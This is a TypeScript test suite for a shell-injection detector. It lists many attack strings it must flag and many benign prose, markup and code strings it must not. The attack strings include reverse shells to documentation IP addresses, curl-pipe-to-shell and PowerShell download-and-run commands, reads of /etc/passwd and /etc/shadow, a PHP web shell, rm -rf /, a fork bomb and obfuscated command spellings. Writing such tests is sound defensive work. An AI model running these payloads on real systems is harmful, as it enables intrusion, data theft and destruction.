import t from 'tap';
import { detectShellInjection, PLAIN_PCT_KINDS, SCAN_FOR_TEST, SHELL_PERIODS_FOR_TEST } from '../../src/detectors/shell-injection';
import { ShellLexer, TK_END, TK_WORD, W_UNQUOTED } from '../../src/tokenizers/shell';
import { charMask } from '../../src/charclass';
import { createEngine } from '../../src/engine';
import { prng } from '../helpers/prng';
import { verdictDigest, verdictKey, verdictTable } from '../helpers/verdict-table';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with a `shell.` rule. */
const positives: string[] = [
  // Kept while the prose shapes in the negatives were relaxed (fp-hunt). A strong command quoted
  // whole stays high; a weak one (an English word: `'id'`, `"where"`) is read as its bare name is
  // (see the negatives), and splitting it inside the quotes is still a split.
  '"whoami"',
  "'wget' http://203.0.113.9/x.sh",
  '"w"here',
  "w'hoami",
  "x;'i'd",
  "x;'id'",
  "'l's -la",
  '"w"ho"am"i',
  "';w'h'oami",
  'c\\at /etc/passwd',
  'c$1at /etc/passwd',
  '$u wget http://203.0.113.9/x',
  "x;yes | rm -rf /",
  '"ls" -la',
  'x; grep root /etc/passwd',
  "x|awk '{system(\"id\")}'",
  // A newline after the one value a ping/nslookup sink expects, then any command.
  '127.0.0.1\nid',
  'example.com\nwhoami',
  '127.0.0.1\r\nuname -a',
  // Interpreters and network clients with something to run or fetch stay high.
  'x; curl 10.0.0.1',
  'x;ps',
  'x;find',
  'd=/dev&&(sh)0>$d/tcp/192.0.2.1/777',
  '`curl evil.example`',
  'a;bash -i',
  '>(cmd)',
  '```bash\nrm -rf /\n```',
  // PowerShell static calls of .NET types that run or load code.
  "[System.Diagnostics.Process]::Start('cmd','/c whoami')",
  "[scriptblock]::create('whoami').invoke()",
  'x; [Reflection.Assembly]::Load($b)',
  // Wrapped in HTML: the tags read as blanks, the command in the text still counts.
  '<b>x</b>; rm -rf /',
  '<p>;cat /etc/passwd</p>',
  '<p>cat /etc/passwd > /tmp/x</p>',
  '<span>$(id)</span>',
  'x</b>|nc 203.0.113.9 4444',
  'cat</etc/passwd',
  "; id",
  "a;id",
  "x && whoami",
  "foo || uname -a",
  "q | cat /etc/shadow",
  "8.8.8.8; wget http://203.0.113.9/x.sh -O /tmp/x.sh",
  "host & ping -c 4 198.51.100.7 &",
  "abc\\nuname -a",
  "$(id)",
  "name=$(whoami)",
  "`uname -r`",
  "report-`date`.txt",
  "'; id; '",
  "\"; id; \"",
  "' && curl http://203.0.113.9 | sh #",
  "\" | nc 203.0.113.9 4444 -e /bin/bash \"",
  "cat${IFS}/etc/passwd",
  "cat$IFS/etc/passwd",
  "{cat,/etc/passwd}",
  ";{ls,-la,/}",
  "; echo pwned > /var/www/html/p.php",
  "< /etc/passwd",
  "x; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
  "/???/c?t /???/p??swd",
  ";/b??/w?oami",
  "c'a't /etc/hosts",
  ";c\\at /etc/hosts",
  "who$@ami",
  "; un$()ame -a",
  "diff <(ls /etc) <(ls /tmp)",
  "x >(nc 203.0.113.9 80)",
  "who\\\nami",
  "& type C:\\Windows\\win.ini",
  "| dir C:\\",
  "& %COMSPEC% /c whoami",
  "& cmd /c ver",
  "& cmd.exe /k ipconfig",
  "&w^h^o^a^m^i",
  "; powershell -enc SQBFAFgA",
  "; powershell -nop -w hidden -c iex(iwr http://203.0.113.9/a)",
  "; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
  "; Invoke-Expression $payload",
  "$(Invoke-WebRequest http://203.0.113.9)",
  "; sleep 10",
  "| timeout /t 10",
  "&& python -c 'import os;os.system(\"id\")'",
  "; perl -e 'exec \"/bin/sh\"'",
  "x | base64 -d | bash",
  "; rm -rf / --no-preserve-root",
  "; chmod +x /tmp/a && /tmp/a",
  "; /usr/bin/env bash",
  "1 && /bin/busybox telnetd",
  "a=who;b=ami;$a$b",
  "x=uname;$x -a",
  "() { :; }; /bin/id",
  "for /f %i in ('whoami') do echo %i",
  "if exist C:\\boot.ini type C:\\boot.ini",
  "system('cat /etc/group')",
  "passthru(\"uname -a\")",
  "child_process.execSync('ls -la')",
  "foo\r\nRCPT TO:<victim@example.com>",
  "x\r\nA042 LOGIN admin secret",
  "${@system(id)}",
  ";$u cat /etc/hosts",
  "& net user attacker P4ss! /add",
  "| reg query HKLM\\Software",
  "; nslookup x.attacker.example",
  "|| curl -d @/etc/passwd http://203.0.113.9",
  "; ls",
  "foo; ls -la /home",
  "$(printf '\\x69\\x64')",
  "x;$'\\x69\\x64'",
  "; sh",
  "; echo $(whoami)",
  "pwd|",
  "; w\"h\"o\"am\"i",
  "\n id",
  "abc\\nwhoami",
  "x\n\\nuname -a",
  "cat /etc/passwd",
  "uname -a",
  "nc -e /bin/sh 203.0.113.9 9001",
  "ls -la /",
  "powershell -ep bypass -f x.ps1",
  "echo '<?php system($_GET[1]); ?>' > s.php",
  "x;${SHELL} -c id",
  "; time whoami",
  "; nohup wget http://203.0.113.9/b &",
  "a);id",
  "\";uname;\"",
  "{${system(id)}}",
  "x|$u whoami",
  "a\r\nEHLO attacker.example",
  "z\r\nDELE 3",
  "<id",
  "f(){ f|f& };f",
  "$(($()))",
  "p``wd",
  "' || sleep 9 #",
  "| for %v in (a) do echo %v",
  "IF /I NOT EXIST C:\\x echo y",
  "1;cd /tmp;wget http://203.0.113.9/x",
  "x;/usr/bin/whoami",
  "%SYSTEMROOT%\\System32\\cmd.exe /c dir",
  "& C:\\Windows\\System32\\whoami.exe",
  "$[]",
  "`id`",
  "'`id`'",
];

/** Each must not be detected at `high` (prose, markup, data, documentation). */
const negatives: string[] = [
  // A reserved word that only leads a command, alone or after another one (session 21: `then` after a
  // glued `;` blocked high; `until then` / `if then` followed once `until` and sh's `if` read the
  // next word as a command). A syntax error in sh; a chat sign-off in prose.
  'see you;then',
  'see you;until then',
  'call me;if then',
  'ok;while do',
  'ok;if else',
  'Fine;else',
  // A weak command's name quoted whole: a quoted search term or field name, between the application's
  // quotes the name between empty quotes, which runs only where the bare name would (session 14).
  '"where"',
  '"date" night ideas',
  "'id'",
  '"time" magazine',
  // A quote beside a weak name, not inside it: a search with quoted phrases.
  '"Where\'s Waldo" -"Group Set"',
  '"date\'s" meaning',
  // A contraction at the value's start, read inside the application's single quote (`i'd` is `id`).
  "i'd like a refund",
  "i'd like to return the 'Oak Chair'",
  // Found by probing realistic text: User-Agents, stack traces, markdown, code, lists of tools.
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'php-curl-class/9.19.0 (+https://github.com/php-curl-class/php-curl-class)',
  'python-requests/2.28.1 (+https://example.com/bot)',
  'Composer/2.7.1 (Linux; 6.1.0; PHP 8.3.3; cURL 8.5.0; OpenSSL 3.0.2)',
  'java.lang.NullPointerException: boom\n\tat com.example.Foo.bar(Foo.java:42)',
  'Error: boom\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)',
  'Visit us\nat www.example.com',
  '```python\nprint(1)\n```',
  'I love `python`',
  'Install `curl` first',
  'Likes: tea; python; cats',
  'Skills: excel; python',
  'a; PowerShell',
  'useState<string>()',
  'new Map<string, number>()',
  '[Math]::Round(3.5)',
  // Header and parameter values of real clients: Ruby Net::HTTP's Accept-Encoding, a SigV4
  // Authorization header's SignedHeaders list, a StackExchange API tag list.
  'gzip;q=1.0,deflate;q=0.6,identity;q=0.3',
  'br;q=1.0, gzip;q=0.8, *;q=0.1',
  'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20241211/us-east-1/execute-api/aws4_request, SignedHeaders=content-type;host;x-amz-date;x-amz-security-token, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024',
  'python;node.js',
  'Use [System.IO.Path]::Combine(a, b) in PowerShell',
  // HTML text whose second word is a command name: to a shell, `more` with three redirections.
  '<a href="https://example.com/pricing">Learn more</a>',
  '<button>Show more</button>',
  '<p>Kill time</p>',
  '<h2>Make history</h2>',
  '<p>see more</p>',
  '<li><a href=/faq>Read more</a></li>',
  "salt; pepper",
  "Tom & Jerry",
  "A | B testing",
  "rock & roll",
  "price > $5",
  "see (cat) pics",
  "cats && dogs",
  "I like cats; dogs too",
  "O'Brien",
  "it's 5 o'clock",
  "a < b and c > d",
  "<3",
  "select your size",
  "drop me a line; or call",
  "rm -rf is a dangerous command",
  "../README.md",
  "docs/readme.md",
  "https://example.com/path?x=1",
  "john.doe@example.com",
  "{\"a\": 1, \"b\": [1,2]}",
  "# Heading\n\n- item one\n- item two; with `code`",
  "Use `ls -la` to list files, and `cat file` to print one.",
  "José Müller",
  "+1 (555) 010-0000",
  "$5 & up",
  "Sales & Marketing; Finance | HR",
  "Q&A",
  "AT&T",
  "R&D; cat food",
  "Go home; sleep well",
  "I'm tired; sleep 8 hours tonight",
  "Tom; cat",
  "cat",
  "whoami",
  "id",
  "echo",
  "ls",
  "ping",
  "Type here",
  "Name | Type | Description",
  "| Name | Type | Description |",
  "| `id` | string | The id |",
  "a=1&b=2&id=3",
  "?q=cat&sort=asc",
  "foo(bar); baz(qux)",
  "if (a && b) { return c || d; }",
  "$(document).ready(function(){})",
  "jQuery $('#id').hide()",
  "C:\\Program Files\\App\\app.exe",
  "C:\\Users\\me\\Documents\\notes.txt",
  "/usr/bin/python",
  "node index.js",
  "npm install && npm test",
  "git commit -m 'fix; update'",
  "Total: $10 (tax incl.) | Ships in 2-3 days",
  "Hello!\nHow are you?\nCall me at 555-0100",
  "Question: what does `cat /etc/hosts` print?",
  "The `time` command measures; `nice` lowers priority.",
  "5 > 3 && 2 < 4",
  "x = y | z",
  "~/projects/foo",
  "find the best price",
  "Dear Sir,\r\nPlease find attached\r\nRegards",
  "Meeting at 10am; bring snacks & drinks",
  "a;b;c",
  "1|2|3",
  "key=value;other=thing",
  "Mr. Smith & Sons, Ltd.",
  "50% off | today only",
  "^_^ ;)",
  "~+",
  "Ash & Misty",
  "Ruby & Python",
  "wget is a tool",
  "who are you?",
  "More info: see docs; type help for more",
  "SELECT * FROM users WHERE id = 5; -- comment",
  "Tom & Jerry & Spike",
  "Who's there? Me; who else",
  "I said: echo that back to me",
  "Please type your name & press enter",
  "Call me; maybe tomorrow",
  "Find more | Search | Help",
  "http://x.com/a;jsessionid=ABC123?x=1&y=2",
  "C:\\Windows\\System32\\drivers\\etc\\hosts",
  "cd ..",
  "Price: $20 (was $30) & free shipping",
  "R&B; Hip-Hop; Pop",
  "fish & chips; peas",
  "salt & pepper | oil",
  "Ruby on Rails; Python & Django",
  "python developer; 5 years",
  "curl up with a book",
  "Sort by: date | name | size",
  "read more >",
  "<b>bold</b> & <i>italic</i>",
  "x > 0 ? a : b",
  "Time: 10:30; Date: 2024-01-01",
  "ping me at 5",
  "Note: cat /etc/passwd is a classic example in tutorials",
  "man page",
  "test",
  "true",
  "Dear team,\nplease find the report attached.\nThanks,\nAnna",
  "Line one\nls\nLine three",
  "a|b|c|d",
  "ID; Name; Email",
  "id;name;email",
  "Set up: npm install; npm start",
  "The command `rm -rf /` is dangerous",
  "See https://example.com/?a=1&b=$(x) for info",
  "Kind regards; Dr. Who",
  "Tom & cat",
  "Mom & Dad; sister",
  "Go to Settings | Privacy & Security",
  "wget",
  "10 < 20 > 5",
  "a && b || c",
  "The 'for' loop; if not defined, defaults apply",
  "If not exist, create it",
  "O'Brien; Smith",
  "Rock & Roll Hall of Fame",
  "Terms & Conditions | Privacy",
  "Tom; Jerry; Spike",
  "user@example.com; admin@example.com",
  "jQuery: $('.item').hide(); $(this).show()",
  "`npm test` runs the suite; `npm run lint` checks style",
  "Cost is $5 > $3",
  "Question (see above); answer below",
  "Ping pong & table tennis",
  "dir: ltr",
  "Sleep well; see you tomorrow",
  "Echo & the Bunnymen",
  "Who | What | Where",
  "cat",
  "curl",
  "a-b-c",
  "item #5; item #6",
  "email me :)",
  "R&D",
  "1 & 2",
  "x||y",
  "a&&b",
  "```js\nconst x = 1;\n```",
  "Test the ```.decorate()``` API",
  "[`PATH`](https://example.com/docs)",
  "<a title=\"Tom & Jerry\">x</a>",
  // Honest chat, code review and data rows found by generated text (fp-hunt): each was shell.* high.
  "\"ls meaning\" -- that's what she said :'(",
  "'python snake' or 'what does sudo do'?",
  "'bash party' or 'shell oil'?",
  "\"sleep(5) minutes\" -- that's what she said",
  '"sum(1..10) = 55"',
  'Set `$http` to `true` and restart "api", then run `npm test`',
  'LGTM! nit: `${name}` should be "${name}" in the docs; then `git pull --rebase`.',
  'Can you run `cd src; ls` before merging? Also rename `utils.ts`.',
  "Can you run `find . -name '*.ts' | xargs wc -l` before merging?",
  '**Note**: `innerHTML` is deprecated; use `ps aux | grep node` instead (see #123).',
  '^\\d{3}-\\d{4}$',
  'Jean-Luc;desk lamp;$19.99;+49-30-123456;"Via dell\'Amore 7";yes',
  'Stack: python; bash; sed; awk',
  'Skills: bash; sed; awk; grep',
];

t.test('shell injection vectors are detected at high confidence', async (t) => {
  for (const v of positives) {
    const d = detectShellInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
    t.ok(d !== undefined && d.rule.startsWith('shell.'), `rule prefix: ${JSON.stringify(v)}`);
  }
});

t.test('benign strings are not high', async (t) => {
  for (const v of negatives) {
    const d = detectShellInjection(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('specific rules', async (t) => {
  const rule = (v: string): string | undefined => detectShellInjection(v)?.rule;
  t.equal(rule('cat${IFS}/etc/passwd'), 'shell.ifs');
  t.equal(rule('{cat,/etc/passwd}'), 'shell.brace-expansion');
  t.equal(rule("c'a't /etc/hosts"), 'shell.obfuscated-command');
  t.equal(rule('/???/c?t /???/p??swd'), 'shell.glob-path');
  t.equal(rule('() { :; }; /bin/id'), 'shell.shellshock');
  t.equal(rule('x; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'), 'shell.redirection');
  t.equal(rule('x | sh'), 'shell.pipe-to-shell');
  t.equal(rule('& cmd /c ver'), 'shell.interpreter');
  t.equal(rule('for /f %i in (\'whoami\') do echo %i'), 'shell.cmd-control');
  t.equal(rule("system('cat /etc/group')"), 'shell.exec-call');
  t.equal(rule('a=who;b=ami;$a$b'), 'shell.variable-command');
  // An SSI directive is the ssi class's (one finding per directive, not one per class that reads it).
  t.equal(rule('<!--#exec cmd="id" -->'), undefined);
  t.equal(rule('x\r\nRCPT TO:<v@example.com>'), 'shell.mail-command');
  t.equal(rule('f(){ f|f& };f'), 'shell.fork-bomb');
  t.equal(rule('$(id)'), 'shell.substitution');
  t.equal(rule('a;id'), 'shell.command-chain');
});

t.test('quote break-out is reported as such', async (t) => {
  const d = detectShellInjection("'; id; '");
  t.equal(d?.confidence, 'high');
  t.match(d?.reason ?? '', /single quote/);
});

t.test('markdown code spans are shown, not blocked', async (t) => {
  const d = detectShellInjection('Use `ls -la` to list files, and `cat file` to print one.');
  t.equal(d?.confidence, 'medium');
  // Prose that also quotes something: read inside double quotes, the spans are still code spans
  // (found as the whole text of a YAML body, and in issue and chat text).
  for (const v of ['Set `debug` to `true` and restart "api"', 'Try `whoami` and "id"', 'He said "use `sudo`" twice', 'x: "set `allowUnsafeRegex` to `true`."']) {
    t.not(detectShellInjection(v)?.confidence, 'high', v);
  }
  // Glued or quote-breaking substitutions stay high.
  for (const v of ['x" `id` "', 'a"`id`"b', '"; echo `id` "', 'name="`id`"']) t.equal(detectShellInjection(v)?.confidence, 'high', v);
});

t.test('reasons are one short sentence without echoing the input', async (t) => {
  const long = '; cat /etc/' + 'x'.repeat(500);
  const d = detectShellInjection(long);
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200, 'short reason');
  t.notMatch(d?.reason ?? '', /x{40}/);
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', 'a', ';', '$', '`', "'", '"', '\\', '$(', '${', '$[', '<(', '\ud800', '\udfff;id', '\u0000;\u0000', '$((', '))))', '}}'];
  for (const v of odd) t.doesNotThrow(() => detectShellInjection(v), JSON.stringify(v));
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    parens: '('.repeat(MB),
    closers: ')'.repeat(MB),
    dollarParen: '$('.repeat(MB / 2),
    backticks: '`'.repeat(MB),
    singleQuotes: "'".repeat(MB),
    doubleQuotes: '"'.repeat(MB),
    lt: '<'.repeat(MB),
    dotdot: '../'.repeat(MB / 3),
    blanks: ' '.repeat(MB),
    semicolons: ';'.repeat(MB),
    braces: '${'.repeat(MB / 2),
    attrs: '<a b="x">'.repeat(MB / 9),
    newlines: '\r\nA001 x'.repeat(MB / 9),
    backslashes: '\\'.repeat(MB),
    prose: 'Tom & Jerry; salt | pepper '.repeat(MB / 27),
    surrogates: '\ud800'.repeat(MB),
    nul: '\u0000'.repeat(MB),
    psFormat: "& (\"{0}\" -f ".repeat(MB / 12),
    psKnown: '$env:ComSpec['.repeat(MB / 13),
    psCasts: '([char]'.repeat(MB / 7),
    psStatic: ']::'.repeat(MB / 3),
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectShellInjection(v), name);
  }
  const five = 'a;b '.repeat((5 * MB) / 4);
  t.doesNotThrow(() => detectShellInjection(five), '5 MB');
});

t.test('without separators, only the first word can be a command (quotes, % and globs in prose)', async (t) => {
  // Values holding quotes, `%` or `*` but no separator, substitution, redirection, escape or `=` take
  // a shortcut that judges the first word alone; these prove the shortcut keeps every form the
  // first word can take, including quotes that glue later text onto it.
  const rule = (v: string): string | undefined => {
    const d = detectShellInjection(v);
    return d?.confidence === 'high' ? d.rule : undefined;
  };
  t.equal(rule("if exist 'C:/boot.ini'"), 'shell.cmd-control', 'IF EXIST as the first word');
  t.equal(rule("i\"f\" exist 'C:/x'"), 'shell.cmd-control', 'IF spelled with quotes');
  t.equal(rule("/tmp/'a b'*"), 'shell.glob-path', 'a wildcard after a quoted blank still belongs to the path');
  t.equal(rule('/dev/"x y"*'), 'shell.glob-path', 'same inside double quotes');
  t.equal(rule('! "cat" /etc/passwd'), 'shell.command', '`!` keeps the command position');
  t.equal(rule("%COMSPEC% /c 'whoami'"), 'shell.interpreter', '%COMSPEC% as the command');
  t.equal(rule("cmd /c 'whoami'"), 'shell.interpreter');
  t.equal(rule("c'a't /etc/passwd"), 'shell.obfuscated-command');
  const prose = ["It's 100% cotton, isn't it?", "Joe's 50% off 'sale' at the mall", "O'Neil's cat is 100% fluffy", "for 'real'? 100%", "if you're 100% sure"];
  for (const v of prose) t.equal(detectShellInjection(v), undefined, `prose: ${JSON.stringify(v)}`);
  t.equal(rule("It's 50% off; cat /etc/passwd"), 'shell.command-chain', 'a separator ends the shortcut');
});

t.test('short values without letters, quotes or shell-only characters find nothing', async (t) => {
  // detect() returns before mayFind for these (P_MAY); each form here still has no finding.
  for (const v of ['+1 (555) 010-0000', '(20) 30-40', '1;2', '1|2', '1 (2) 3', '-- 5 / 6 --', '12,50 € (net)', '!1=2']) {
    t.equal(detectShellInjection(v), undefined, JSON.stringify(v));
  }
  // Letter-free values that do carry a finding are still judged (`$`, `<`, `&` and quotes are in P_MAY).
  t.equal(detectShellInjection('1|$0<<<1')?.confidence, 'high');
  // The tag, fence and `]::` searches are gated by presence bits; each still runs on both sides of
  // LONG_VALUE, where the bits come from native scans.
  const pad = (n: number): string => 'word '.repeat(80).slice(0, n);
  for (const n of [10, 90, 95, 96, 150]) {
    t.equal(detectShellInjection(pad(n) + "[System.Diagnostics.Process]::Start('x')")?.rule, 'shell.powershell', `]:: at ${n}`);
    t.equal(detectShellInjection(pad(n) + '<b>Show more</b>')?.confidence, undefined, `tags at ${n}`);
    t.equal(detectShellInjection(pad(n) + '```bash\nrm -rf /\n```')?.confidence, 'high', `fence at ${n}`);
  }
});

t.test('long values (native scans) decide as short ones do', async (t) => {
  // Values of 96 characters and more are scanned with indexOf instead of a charCode loop; each case
  // is checked on both sides of that length.
  const lengths = [60, 95, 96, 97, 120, 300];
  const pad = (n: number): string => 'word '.repeat(80).slice(0, n);
  for (const n of lengths) {
    t.equal(detectShellInjection(pad(n) + '; uname -a')?.rule, 'shell.command-chain', `separator at ${n}`);
    t.equal(detectShellInjection(pad(n) + ' x|sh')?.rule, 'shell.pipe-to-shell', `pipe at ${n}`);
    t.equal(detectShellInjection('cat /etc/passwd ' + 'x'.repeat(n))?.confidence, 'high', `first word at ${n}`);
    t.equal(detectShellInjection('x'.repeat(n) + '`id`')?.rule, 'shell.substitution', `backticks at ${n}`);
    t.equal(detectShellInjection("it's ".repeat(80).slice(0, n) + ' "$(id)"')?.rule, 'shell.substitution', `quoted $() at ${n}`);
    t.equal(detectShellInjection("it's ".repeat(80).slice(0, n) + ' 100% fine'), undefined, `prose at ${n}`);
    t.equal(detectShellInjection(pad(n)), undefined, `words at ${n}`);
  }
});

t.test('characters cut out of variables, $0 as the shell, and the PowerShell call operator', async (t) => {
  const high = [
    // bash substring expansions building a command or its path.
    ';${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id',
    'x&&${PWD:0:1}bin${PWD:0:1}uname -a',
    '${SHELL:0:1}sbin${SHELL:0:1}ifconfig',
    'q;${PATH: -1}bin/ls',
    'q|${PATH:(-3):1}hoami',
    '$(${x:2:1}ho${y:0:1}mi)',
    'a;more ${HOME:0:1}etc${HOME:0:1}group',
    'file=x;${LS_COLORS:10:1}${LS_COLORS:3:1} /',
    // `$0` is the running shell.
    'a;$0 -c "uname -a"',
    'x;${0} -c whoami',
    'x|$0 <<<"id"',
    'printf id|$0',
    '`$0 -c id`',
    // cmd.exe substring expansions.
    'x&%COMSPEC:~-7,3% /c ver',
    'a|%comspec:~0,1%%comspec:~3,1%',
    '&%ProgramFiles:~10,1%',
    'x & %SystemRoot:~-7,1%hoami',
    '1|%PATHEXT:~1,3%',
    '||%windir:~0,1%:\\x.exe',
    // PowerShell call operator on an expression.
    "; & ('who'+'ami')",
    "x;&('Inv'+'oke-Expression') 'calc'",
    "|.( 'i' + 'e' + 'x' ) 'id'",
    "; & ([char]105+[char]101+[char]120) 'whoami'",
    "x; .(Get-Command *ke-ex*) 'whoami'",
    "a;&(gal i?x) id",
    "x;&(gcm Invoke-Expression) 'id'",
    "x;&(Get-Command 'i*x') 'id'",
    // Call operator on a format string, -join, indexing, casts and methods (PsExpr).
    "& (\"{1}{0}\" -f 'ex','i') 'calc'",
    ".(\"{2}{0}{1}\" -f 'e','x','i') 'whoami'",
    ".(\"{2}{0}{1}\"-f'e','x','i') 'whoami'",
    "& (\"{0}{1}{2}\" -f 'Invoke-','Expr','ession') 'id'",
    "& (('i','e','x') -join '') 'whoami'",
    "& (-join ('i','e','x')) 'whoami'",
    "& ('xei'[-1..-3] -join '') 'whoami'",
    ".('ieX'.Replace('X','x')) whoami",
    "& ('I'+'EX'.ToLower()) id",
    // Letters cut out of variables with a fixed value (Invoke-Obfuscation's spellings of iex).
    "& ($env:ComSpec[4,15,25]-join'') 'whoami'",
    ". ($env:ComSpec[4,24,25]-Join'')",
    "\"id\" | &( $env:ComSpec[4,15,25]-Join'')",
    "\"id\" |&( $env:ComSpec[4,26,25]-Join'')",
    "&( $SheLLid[1]+$ShelLId[13]+'x') 'id'",
    ".( $PSHome[4]+$PSHOME[30]+'x') 'id'",
    "& ( ([String]$VerbosePreference)[1,3]+'X'-Join'') 'id'",
    ".( (gv '*mdr*').Name[3,11,2]-join'') 'id'",
    "& ((GV '*MDR*').NaME[3,11,2]-JoIN'') 'id'",
    "& (${env:ComSpec}[4,15,25] -join '') 'id'",
    // The same expressions standing alone.
    "$env:ComSpec[4,15,25]-join''",
    "$ShellId[1]+$ShellId[13]+'x'",
    "$VerbosePreference.ToString()[1,3]+'x'-Join''",
    "([String]$VerbosePreference)[1,3]+'X'-Join''",
    "$env:Public[13]+$env:Public[5]+'x'",
  ];
  for (const v of high) {
    const d = detectShellInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  const notHigh = [
    // Substrings of data, assignments and defaults are not character building.
    'first=${name:0:1}',
    'use ${var:0:1} to get the first char',
    '${PORT:8080}',
    '${VAR:-fallback}',
    'set stamp=%DATE:~10,4%%DATE:~4,2%',
    'Use %PATH:~0,5% to get the first five characters',
    'Set %PATH% to include C:\\Tools',
    'see %ProgramFiles% folder; 50% done',
    'Use `${PATH:0:1}` in bash to get a slash',
    // Prices.
    'Free|$0|Pro|$10',
    'Basic plan | $0 monthly',
    '$0 per month; $5 after',
    'My budget is $0; sad | true story',
    // Parentheses after & or . in prose.
    'Tom & (Jerry)',
    '. (see above)',
    "Use & ('a'+'b') to join",
    'R&D (research) & (development)',
    'Run Get-Command to list cmdlets (gcm for short)',
    // PowerShell that runs a path or formats text: nothing is built from known letters.
    "& ($paths[0] + '\\bin\\tool.exe') --version",
    "& ('{0}\\tool.exe' -f $dir) /quiet",
    "& (Join-Path $PSScriptRoot 'build.ps1') -Configuration Release",
    'Write-Host ("{0} {1}" -f $first, $last)',
    '"Total: {0:N2}" -f $total',
    "$env:Path -split ';'",
    '$env:PATH += ";C:\\tools"',
    '$global:Path = $env:Path',
    'Write-Output $env:ComSpec',
    "$parts = $env:COMPUTERNAME[0..2] -join ''",
    "Q&A ('q'+'a')",
    "Tom & ('Jerry' -join '')",
    "$ShellId is 'Microsoft.PowerShell'",
  ];
  for (const v of notHigh) {
    const d = detectShellInjection(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.equal(detectShellInjection(';${PATH:0:1}etc${PATH:0:1}passwd')?.rule, 'shell.obfuscation');
  t.equal(detectShellInjection("& ('i'+'ex') 'calc'")?.rule, 'shell.powershell');
  t.equal(detectShellInjection("& (\"{1}{0}\" -f 'ex','i') 'calc'")?.rule, 'shell.powershell');
  t.equal(detectShellInjection("$env:ComSpec[4,15,25]-join''")?.rule, 'shell.powershell');
  t.equal(detectShellInjection('echo id|$0')?.rule, 'shell.pipe-to-shell');
  t.equal(detectShellInjection('Free|$0'), undefined, '$0 after a word that is no command: a price');
  t.equal(detectShellInjection('$0; shipping extra'), undefined, 'a price opening the value');
  t.equal(detectShellInjection('x&&$0'), undefined, '$0 with nothing to run');
});

t.test('repeated attribute values are judged once, and a different one after them still is', async (t) => {
  // detect() skips an attribute value equal to the one just read clean (same text, same quotes).
  t.equal(detectShellInjection('<a x="' + '<a x="'.repeat(5000))?.confidence, undefined);
  t.equal(detectShellInjection('<a title="hi">'.repeat(3000) + '<a title=";cat /etc/passwd">')?.confidence, 'high');
  t.equal(detectShellInjection('<a x="1" y="1" '.repeat(3000) + "<a x='1' y='`id`'>")?.confidence, 'high');
  t.equal(detectShellInjection('<b c="ok">'.repeat(3000) + '<b c="ok;id">')?.confidence, 'high');
});

t.test('HTML read as blanks: many tags (the buffered path) find what few tags do', async (t) => {
  // Past 64 tags withoutTags collects the text in a code-unit buffer; the text and the verdict are
  // those of the string path (checked against the build before it).
  const cases: Array<[string, string, string]> = [
    ['200 bold words, then a command', '<b>x</b> '.repeat(200) + '; cat /etc/passwd', 'shell.command-chain'],
    ['500 tags, then a substitution', '<i>a</i>'.repeat(500) + '$(id)', 'shell.substitution'],
    ['tags around lone surrogates, then a pipe', '<p>\ud800</p>'.repeat(100) + ' | nc 1.2.3.4 4444', 'shell.command-chain'],
    ['one tag, then a command', '<b>x</b>; cat /etc/passwd', 'shell.command-chain'],
    ['300 equal attribute values, then one that runs a command', '<a x="1">'.repeat(300) + '<a x=";id">', 'shell.command-chain'],
  ];
  for (const [name, value, rule] of cases) {
    const d = detectShellInjection(value);
    t.equal(d?.rule, rule, name);
    t.equal(d?.confidence, 'high', name);
  }
  // Hostile sizes return (no timing asserted).
  for (const unit of ['</a>x', '<a <a ', '<a x="']) t.doesNotThrow(() => detectShellInjection(unit.repeat(200_000)), unit);
});

t.test('a command record whose name is no command: arguments counted, not classified', async (t) => {
  // onArgWord / onRedirTarget skip the evidence of a record with cls 0 (finalize judges nothing for
  // it); the argument count still drives the "unknown word, then a strong command" test, and what
  // does not depend on the record (separators, /dev/tcp targets, for/if) still fires. Verdicts are
  // those of the build before the change.
  const cases: Array<[string, string | undefined]> = [
    [';.system nc 10.0.0.1 4444', 'shell.command-chain'],
    ['1;.sh whoami', 'shell.command-chain'],
    [';foo bar nc 10.0.0.1 4444', 'shell.command-chain'],
    [';foo bar baz nc 10.0.0.1 4444', undefined],
    ['foo a b c d e f; cat /etc/passwd', 'shell.command-chain'],
    ['for /f %i in (x) do calc', 'shell.cmd-control'],
    ['if exist C:\\x.txt calc', 'shell.cmd-control'],
    ['foo <a >/dev/tcp/1.2.3.4/80', 'shell.redirection'],
    ['"; foo <a x="1" >x.php', undefined],
    ['Soft cotton jersey with a relaxed fit; free returns', undefined],
  ];
  for (const [v, rule] of cases) t.equal(detectShellInjection(v)?.rule, rule, v);
  // 1 MB of `<a x="` (read inside "…", a record named `<a x=` with 350,000 arguments), then a command.
  const run = '<a x="'.repeat(175_000);
  t.equal(detectShellInjection(run), undefined);
  t.equal(detectShellInjection(run + '"; cat /etc/passwd')?.confidence, 'high');
  t.equal(detectShellInjection(run + '`id`')?.rule, 'shell.substitution');
});

t.test('runs of skipped tokens: what follows them is judged as before', async (t) => {
  // Pass.skipArgs / skipOpens skip simple words, short redirections, assignments and glued `$(`
  // openers that can only move counters; the token after a run, and anything that is not such a
  // token, is read as before. Verdicts are those of the build before the change.
  const r = (n: number, u: string): string => u.repeat(n);
  const cases: Array<[string, string | undefined, string | undefined]> = [
    [r(40, 'soft cotton jersey with a relaxed fit '), undefined, undefined],
